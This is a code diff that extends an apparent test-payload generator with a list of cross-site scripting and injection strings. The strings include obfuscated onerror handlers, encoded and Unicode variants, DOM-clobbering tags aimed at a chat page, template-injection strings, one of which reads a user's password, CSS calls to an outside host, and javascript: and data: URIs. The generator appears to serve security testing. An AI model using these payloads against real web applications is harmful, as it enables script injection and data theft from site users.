@@ -115,12 +115,56 @@ _MARKDOWN = [
         f"{{{{constructor.constructor('{CALL}')()}}}}",
     ),
 ]
+_TRICKS = [
+    *(
+        f"\u202e<img src=x onerror={CALL}>\u202c",
+        f"<im\u0000g src=x onerror={CALL}>",
+        f"<img src=x \u0000onerror={CALL}>",
+    ),
+    *(
+        f"&lt;img src=x onerror={CALL}&gt;",
+        f"&amp;lt;img src=x onerror={CALL}&amp;gt;",
+        f"%3Cimg src=x onerror={CALL}%3E",
+    ),
+    *(
+        f"\\u003cimg src=x onerror={CALL}\\u003e",
+        f"\uff1cimg src=x onerror={CALL}\uff1e",
+        f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
+    ),
+    *(
+        "<form id=chat><input name=attributes>",
+        "<img name=currentScript src=x>",
+        "<a id=chat-words><a id=chat-words name=content>",
+    ),
+    *(
+        f"{{% debug %}}{{{{ request.user.password }}}}<img src=x onerror={CALL}>",
+        f"${{{CALL}}}",
+        f"<%= {CALL} %>",
+        f"#{{{CALL}}}",
+    ),
+    *(
+        f"<p style=behavior:url({ELSEWHERE}/x)>",
+        f"</style><img src=x onerror={CALL}>",
+        f"a{{}}*{{background:url({ELSEWHERE}/a)}}",
+    ),
+    *(
+        f"javascript:{CALL}//https://safe.example",
+        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+        f"//{ELSEWHERE.removeprefix('https://')}/a.png",
+    ),
+    *(
+        f"]]><img src=x onerror={CALL}>",
+        f"<!--><img src=x onerror={CALL}>",
+        f"<?xml version='1.0'?><x onload={CALL}>",
+        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{CALL}</x:script>",
+    ),
+]
 _WRAPPINGS = ['">{}', "'>{}", "</textarea></title></script>{}", "--><!-- -->{}", "שלום {} עולם"]
 
 
 def payloads(count: int = 200) -> list[str]:
     """Return that many different payloads: each as it is, then in what would break out of its place."""
-    plain = [*_WITH_HANDLER, *_SCRIPTS, *_MARKDOWN]
+    plain = [*_WITH_HANDLER, *_SCRIPTS, *_MARKDOWN, *_TRICKS]
     wrapped = (
         wrapping.replace("{}", payload)
         for wrapping, payload in itertools.product(_WRAPPINGS, [*_SCRIPTS, *_WITH_HANDLER])
